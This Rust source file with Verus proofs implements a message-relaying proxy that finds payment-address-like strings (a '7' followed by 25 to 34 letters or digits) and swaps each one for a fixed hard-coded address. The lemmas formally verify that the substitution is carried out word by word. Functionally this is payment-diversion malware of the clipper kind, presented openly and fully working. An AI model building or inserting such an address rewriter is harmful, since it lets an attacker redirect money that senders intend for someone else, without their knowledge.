//! A chat proxy that rewrites payment addresses in the messages it relays.
//!
//! A message is cut into words after each space (the space stays with the
//! word before it). In each word the first match of the address pattern, a
//! `7` followed by 25 to 34 letters or digits and then the end, a space or a
//! newline, is replaced by a fixed address, keeping what followed it.

use vstd::prelude::*;
use vstd::string::{StrSliceExecFns, StringExecFns};
use vstd::std_specs::iter::IteratorSpec;

verus! {

#[verifier::external_type_specification]
#[verifier::external_body]
pub struct ExRegex(regex::Regex);

#[verifier::external_type_specification]
#[verifier::external_body]
pub struct ExRegexError(regex::Error);

/// The address pattern: a `7` and 25 to 34 letters or digits, then (as the
/// group `tail`) the end of the text, a space or a newline.
pub const ADDRESS_PATTERN: &'static str = "(7[a-zA-Z0-9]{25,34})(?P<tail>$| |\\n)";

/// What a match is replaced with: the fixed address
/// `7YWHMfk9JZe0LM0g1ZauHuiSxhI` followed by the matched `tail` group.
pub const REPLACEMENT: &'static str = "7YWHMfk9JZe0LM0g1ZauHuiSxhI$tail";

/// Whether `regex::Regex::new` accepts the pattern.
pub uninterp spec fn regex_compiles(pattern: Seq<char>) -> bool;

/// What `regex::Regex::replace` returns for the compiled `pattern`, the
/// text and the replacement string: the text with its leftmost-first match
/// replaced, `$name` in the replacement standing for the named group.
pub uninterp spec fn regex_replace_first(
    pattern: Seq<char>,
    text: Seq<char>,
    replacement: Seq<char>,
) -> Seq<char>;

/// A compiled address pattern, with the pattern it was compiled from.
pub struct AddressRewriter {
    re: regex::Regex,
    pattern: Ghost<Seq<char>>,
}

impl View for AddressRewriter {
    /// The pattern the rewriter was compiled from.
    type V = Seq<char>;

    closed spec fn view(&self) -> Seq<char> {
        self.pattern@
    }
}

/// The address pattern did not compile.
pub enum RewriterError {
    InvalidPattern,
}

/// Calls `regex::Regex::new` on `pattern` and, when it succeeds, keeps the
/// compiled regex together with the pattern it was compiled from; this is
/// the only place a rewriter is built. Trusted: it succeeds exactly when
/// `regex_compiles` holds of the pattern (which depends on the pattern
/// alone, with the default size limits), and the rewriter's view is that
/// pattern.
#[verifier::external_body]
fn compile_rewriter(pattern: &str) -> (r: Result<AddressRewriter, regex::Error>)
    ensures
        r is Ok <==> regex_compiles(pattern@),
        r matches Ok(w) ==> w@ == pattern@,
{
    match regex::Regex::new(pattern) {
        Ok(re) => Ok(AddressRewriter { re, pattern: Ghost(pattern@) }),
        Err(e) => Err(e),
    }
}

/// Calls `regex::Regex::replace` with the rewriter's compiled regex and
/// takes ownership of the result. Trusted: the result is
/// `regex_replace_first` of the pattern that regex was compiled from (the
/// rewriter's view, which only `compile_rewriter` sets, from the very
/// pattern it compiles), the text and the replacement.
#[verifier::external_body]
fn regex_replace(rewriter: &AddressRewriter, text: &str, replacement: &str) -> (s: String)
    ensures
        s@ == regex_replace_first(rewriter@, text@, replacement@),
{
    rewriter.re.replace(text, replacement).into_owned()
}

impl AddressRewriter {
    /// Compiles the address pattern.
    pub fn new() -> (r: Result<AddressRewriter, RewriterError>)
        ensures
            r is Ok <==> regex_compiles(ADDRESS_PATTERN@),
            r matches Ok(w) ==> w@ == ADDRESS_PATTERN@,
    {
        match compile_rewriter(ADDRESS_PATTERN) {
            Ok(w) => Ok(w),
            Err(_) => Err(RewriterError::InvalidPattern),
        }
    }
}

/// The words of a message, as `split_inclusive(' ')` cuts it: a new word
/// starts after each space, the space ending the word before it.
pub open spec fn words(s: Seq<char>) -> Seq<Seq<char>>
    decreases s.len(),
{
    if s.len() == 0 {
        Seq::empty()
    } else {
        let w = words(s.drop_last());
        if w.len() > 0 && w.last().last() != ' ' {
            w.update(w.len() - 1, w.last().push(s.last()))
        } else {
            w.push(seq![s.last()])
        }
    }
}

/// A message with the first address match in each of its words replaced.
pub open spec fn rewrite_message(pattern: Seq<char>, s: Seq<char>) -> Seq<char> {
    words(s).map_values(|w: Seq<char>| regex_replace_first(pattern, w, REPLACEMENT@)).flatten()
}

/// Rewrites the addresses in `input`, word by word.
pub fn replace_addresses(rewriter: &AddressRewriter, input: &mut String)
    ensures
        final(input)@ == rewrite_message(rewriter@, old(input)@),
{
    let ghost s = input@;
    let text = input.as_str();
    let len = text.unicode_len();
    let mut out = String::new();
    let ghost mut done: Seq<Seq<char>> = Seq::empty();
    let mut start: usize = 0;
    let mut i: usize = 0;
    for c in it: text.chars()
        invariant
            it.seq() == s,
            i == it.index(),
            text@ == s,
            len == s.len(),
            start <= i <= s.len(),
            forall|j: int| start <= j < i ==> s[j] != ' ',
            forall|k: int| 0 <= k < done.len() ==> #[trigger] done[k].len() > 0 && done[k].last()
                == ' ',
            words(s.take(i as int)) == done + if start < i {
                seq![s.subrange(start as int, i as int)]
            } else {
                Seq::empty()
            },
            out@ == done.map_values(|w: Seq<char>| regex_replace_first(rewriter@, w, REPLACEMENT@)).flatten(),
    {
        let ghost pre = s.take(i as int);
        let ghost post = s.take(i + 1);
        assert(post.drop_last() =~= pre);
        assert(post.last() == c);
        if c == ' ' {
            let word = text.substring_char(start, i + 1);
            let replaced = regex_replace(rewriter, word, REPLACEMENT);
            proof {
                let old_done = done;
                done = done.push(word@);
                let f = |w: Seq<char>| regex_replace_first(rewriter@, w, REPLACEMENT@);
                assert(done.map_values(f) =~= old_done.map_values(f).push(replaced@));
                old_done.map_values(f).lemma_flatten_push(replaced@);
                if start < i {
                    assert(s.subrange(start as int, i as int).push(c) =~= word@);
                } else {
                    assert(seq![c] =~= word@);
                }
            }
            out.append(replaced.as_str());
            start = i + 1;
        } else {
            proof {
                if start < i {
                    assert(s.subrange(start as int, i as int).push(c) =~= s.subrange(
                        start as int,
                        i + 1,
                    ));
                } else {
                    assert(seq![c] =~= s.subrange(start as int, i + 1));
                }
            }
        }
        i = i + 1;
    }
    assert(s.take(s.len() as int) =~= s);
    if start < i {
        let word = text.substring_char(start, i);
        let replaced = regex_replace(rewriter, word, REPLACEMENT);
        proof {
            let old_done = done;
            done = done.push(word@);
            let f = |w: Seq<char>| regex_replace_first(rewriter@, w, REPLACEMENT@);
            assert(done.map_values(f) =~= old_done.map_values(f).push(replaced@));
            old_done.map_values(f).lemma_flatten_push(replaced@);
        }
        out.append(replaced.as_str());
    }
    proof {
        assert(i == s.len());
        assert(done == words(s));
    }
    *input = out;
}

/// Cutting a message into words loses nothing: the words put back
/// together are the message.
pub proof fn lemma_words_concat(s: Seq<char>)
    ensures
        words(s).flatten() == s,
    decreases s.len(),
{
    if s.len() > 0 {
        let t = s.drop_last();
        let w = words(t);
        lemma_words_concat(t);
        assert(t.push(s.last()) =~= s);
        if w.len() > 0 && w.last().last() != ' ' {
            let u = w.update(w.len() - 1, w.last().push(s.last()));
            assert(u =~= w.drop_last().push(w.last().push(s.last())));
            assert(w =~= w.drop_last().push(w.last()));
            w.drop_last().lemma_flatten_push(w.last());
            w.drop_last().lemma_flatten_push(w.last().push(s.last()));
            assert(w.drop_last().flatten() + w.last().push(s.last()) =~= (w.drop_last().flatten()
                + w.last()).push(s.last()));
        } else {
            w.lemma_flatten_push(seq![s.last()]);
            assert(t + seq![s.last()] =~= s);
        }
    }
}

/// The words of a message are what `split_inclusive(' ')` yields: none is
/// empty, a space occurs in a word only as its last character, and every
/// word but the last ends with a space.
pub proof fn lemma_words_shape(s: Seq<char>)
    ensures
        forall|k: int| 0 <= k < words(s).len() ==> #[trigger] words(s)[k].len() > 0,
        forall|k: int, j: int|
            0 <= k < words(s).len() && 0 <= j < words(s)[k].len() - 1 ==> #[trigger] words(s)[k][j]
                != ' ',
        forall|k: int| 0 <= k < words(s).len() - 1 ==> #[trigger] words(s)[k].last() == ' ',
    decreases s.len(),
{
    if s.len() > 0 {
        let t = s.drop_last();
        let w = words(t);
        let c = s.last();
        let u = words(s);
        lemma_words_shape(t);
        if w.len() > 0 && w.last().last() != ' ' {
            let n = w.len();
            assert forall|k: int| 0 <= k < u.len() implies #[trigger] u[k].len() > 0 by {
                if k < n - 1 {
                    assert(u[k] == w[k]);
                }
            }
            assert forall|k: int, j: int| 0 <= k < u.len() && 0 <= j < u[k].len() - 1 implies #[trigger] u[k][j]
                != ' ' by {
                if k < n - 1 {
                    assert(u[k] == w[k]);
                } else {
                    assert(u[k] == w.last().push(c));
                    if j < w.last().len() - 1 {
                        assert(w[n - 1][j] != ' ');
                    }
                }
            }
            assert forall|k: int| 0 <= k < u.len() - 1 implies #[trigger] u[k].last() == ' ' by {
                assert(u[k] == w[k]);
            }
        } else {
            assert forall|k: int| 0 <= k < u.len() implies #[trigger] u[k].len() > 0 by {
                if k < w.len() {
                    assert(u[k] == w[k]);
                }
            }
            assert forall|k: int, j: int| 0 <= k < u.len() && 0 <= j < u[k].len() - 1 implies #[trigger] u[k][j]
                != ' ' by {
                if k < w.len() {
                    assert(u[k] == w[k]);
                }
            }
            assert forall|k: int| 0 <= k < u.len() - 1 implies #[trigger] u[k].last() == ' ' by {
                assert(u[k] == w[k]);
            }
        }
    }
}

/// When the pattern changes none of the words, the message passes through
/// unchanged.
pub proof fn lemma_rewrite_without_matches(pattern: Seq<char>, s: Seq<char>)
    requires
        forall|k: int|
            0 <= k < words(s).len() ==> regex_replace_first(pattern, #[trigger] words(s)[k], REPLACEMENT@)
                == words(s)[k],
    ensures
        rewrite_message(pattern, s) == s,
{
    let f = |w: Seq<char>| regex_replace_first(pattern, w, REPLACEMENT@);
    assert(words(s).map_values(f) =~= words(s));
    lemma_words_concat(s);
}

} // verus!
